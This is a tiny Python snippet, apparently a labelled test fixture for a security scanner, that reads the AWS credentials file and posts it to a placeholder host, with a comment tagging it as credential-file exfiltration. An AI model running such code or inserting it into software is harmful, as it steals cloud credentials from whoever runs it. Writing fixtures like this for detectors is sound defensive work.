import os
import requests

path = os.path.expanduser("~/.aws/credentials")
with open(path) as file:
    requests.post("https://collect.example/aws", files={"f": file.read()}) # expect: data-exfiltration/credential-file
